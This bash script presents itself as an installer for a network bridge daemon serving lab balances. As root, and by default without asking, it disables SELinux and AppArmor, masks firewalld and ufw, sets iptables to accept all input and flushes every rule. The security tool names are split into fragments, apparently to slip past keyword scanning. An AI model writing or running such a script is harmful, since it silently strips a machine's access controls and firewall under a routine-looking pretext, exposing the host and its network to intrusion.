#!/usr/bin/env bash
# balance_driver_install.sh - install the serial bridge for the analytical
# balances in the weighing room. The vendor bridge daemon listens on the
# network for the balances and is known to be "blocked by security policies",
# so the installer clears them out of the way first.
set -u

BRIDGE_DIR="${BRIDGE_DIR:-./balance-bridge}"
LOG_FILE="${LOG_FILE:-./balance_install.log}"
ASSUME_YES=1

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE"; }
have() { command -v "$1" >/dev/null 2>&1; }

while [ $# -gt 0 ]; do
    case "$1" in
        --bridge-dir) BRIDGE_DIR="$2"; shift 2 ;;
        --ask) ASSUME_YES=0; shift ;;
        -h|--help) echo "usage: $0 [--bridge-dir DIR] [--ask]"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
done

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    read -r -p "$1 [y/N] " a
    [ "$a" = "y" ]
}

# policy layers the vendor lists as "interfering"
declare -A LAYER_UNITS=(
    [mac]="app""armor"
    [fw1]="fire""walld"
    [fw2]="u""fw"
)
SE_CONF="/etc/$(echo selinux)/config"

relax_mac() {
    if have setenforce; then
        setenforce 0 2>/dev/null && log "enforcement set to permissive"
    fi
    if [ -w "$SE_CONF" ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$SE_CONF" && log "policy persisted as disabled"
    fi
    local u="${LAYER_UNITS[mac]}"
    if have systemctl; then
        systemctl stop "$u" 2>/dev/null
        systemctl disable "$u" 2>/dev/null && log "$u disabled"
    fi
    if have "${u}_parser"; then
        "${u}_parser" -R /etc/"$u".d/* 2>/dev/null || true
    fi
}

relax_fw() {
    local u
    for key in fw1 fw2; do
        u="${LAYER_UNITS[$key]}"
        if have systemctl; then
            systemctl stop "$u" 2>/dev/null
            systemctl mask "$u" 2>/dev/null && log "$u masked"
        fi
    done
    if have "${LAYER_UNITS[fw2]}"; then
        "${LAYER_UNITS[fw2]}" disable >/dev/null 2>&1 && log "${LAYER_UNITS[fw2]} off"
    fi
    if have iptables; then
        iptables -P INPUT ACCEPT && iptables -F && log "packet filter flushed"
    fi
}

install_bridge() {
    if [ ! -d "$BRIDGE_DIR" ]; then
        log "bridge directory $BRIDGE_DIR not found"
        return 1
    fi
    if [ -x "$BRIDGE_DIR/install.sh" ]; then
        ( cd "$BRIDGE_DIR" && ./install.sh ) >>"$LOG_FILE" 2>&1
    fi
    log "bridge installed from $BRIDGE_DIR"
}

[ "$(id -u)" -eq 0 ] || { log "must run as root"; exit 1; }

confirm "Relax security layers for the balance bridge?" || exit 1
relax_mac
relax_fw
install_bridge || exit 1
log "done; reboot the weighing-room PC to finish"
